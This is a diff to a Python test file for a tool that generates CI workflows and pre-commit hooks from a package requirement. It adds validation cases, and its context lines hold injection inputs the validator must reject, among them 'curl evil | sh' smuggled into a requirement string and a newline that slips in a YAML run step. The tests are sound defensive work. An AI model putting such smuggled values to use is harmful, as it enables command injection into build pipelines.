@@ -277,6 +277,13 @@ def test_ci_and_hooks_install_the_source_that_is_named(tmp_path: Path) -> None:
     assert workflow[True]["schedule"]  # `on` is true in YAML 1.1
 
 
+def test_hooks_in_a_subfolder_of_a_repository_are_those_on_the_path(tmp_path: Path) -> None:
+    requirement = parse_requirement(f"{GIT}#subdirectory=python")
+    create_repository(tmp_path, "hub", Choices(requirement=requirement), NOW)
+    (hooks,) = yaml.safe_load((tmp_path / "hub/.pre-commit-config.yaml").read_text("utf-8"))["repos"]
+    assert hooks["repo"] == "local"
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -285,6 +292,7 @@ def test_ci_and_hooks_install_the_source_that_is_named(tmp_path: Path) -> None:
         "rollout-spec[github]>=0.1,<0.2",
         GIT,
         f"rollout-spec @ {GIT}",
+        "git+ssh://git@git.example.com/tools/rollout-spec@0123abc",
         "rollout-spec @ https://files.example.com/rollout_spec-0.1.0-py3-none-any.whl",
     ],
 )
@@ -298,6 +306,8 @@ def test_a_source_that_pip_can_install(text: str) -> None:
         ("requests", "is not rollout-spec"),
         ("git+https://git.example.com/rollout-spec", "names no commit or tag"),
         ("git+https://bot:secret@git.example.com/rollout-spec@abc", "password"),
+        ("git+https://ghp_secret@git.example.com/rollout-spec@abc", "token"),
+        ("rollout-spec @ https://token@files.example.com/rollout_spec-0.1.0-py3-none-any.whl", "token"),
         ('rollout-spec"; curl evil | sh; "', "unsafe"),
         ("rollout-spec==${{ github.token }}", "unsafe"),
         ("rollout-spec\n  - run: evil", "unsafe"),
